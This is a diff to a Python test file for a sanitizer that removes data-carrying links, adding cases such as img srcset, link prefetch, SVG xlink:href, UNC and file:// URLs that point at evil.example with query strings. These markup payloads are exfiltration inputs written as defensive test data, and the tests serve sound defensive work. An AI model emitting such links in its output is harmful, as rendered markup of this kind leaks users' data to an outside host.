@@ -33,6 +33,15 @@ def passed(text: str, *domains: str) -> str:
         ("![a](<https://evil.example/?q=my secret>)", f"![a](<{REMOVED}>)"),
         ("url( https://evil.example/?a=b )", f"url( {REMOVED} )"),
         ("[a](javascript:alert(1))", f"[a]({REMOVED})"),
+        ("<img srcset='a.png 1x, https://evil.example/?q=1 2x'>", f"<img srcset='{REMOVED}'>"),
+        (
+            "<link rel=prefetch href=https://evil.example/?q=1>",
+            f"<link rel=prefetch href={REMOVED}>",
+        ),
+        ("<image xlink:href='//evil.example/?q=1'/>", f"<image xlink:href='{REMOVED}'/>"),
+        (r"<img src='\\evil.example\?q=1'>", f"<img src='{REMOVED}'>"),
+        (f"![a](file://evil.example/share/{LONG})", f"![a]({REMOVED})"),
+        (f"![a](https://evil.example/{'words/' * 22})", f"![a]({REMOVED})"),
         (f"\u770bhttps://evil.example/?q={LONG}\uff0c\u7136", f"\u770b{REMOVED}\uff0c\u7136"),
     ],
 )
@@ -50,6 +59,7 @@ def test_a_link_that_carries_much_is_removed(text: str, told: str) -> None:
         "https://example.com/a-long-title-of-an-article-with-many-words-in-it-that-goes-on",
         "data = requests.get(url, params={'q': 1}); a[i](x); f(a)[0]: b",
         "[mail](mailto:jane@example.com) [top](#top) [file](../a.md)",
+        "<a href='https://example.com/?page=2'> <img srcset='a.png 1x, https://example.com/b.png 2x'>",
         "[a](https://x.example/1?a=b)[b](https://y.example/2?c=d)",
     ],
 )
@@ -137,6 +147,7 @@ PIECES = (
         "é",
         "\uff0c",
     ),
+    *("<link ", "srcset=", ", "),
     *("\uff0c", "&#58;", "x" * (LONGEST + 50), "example.com", ".", "\\"),
 )
 
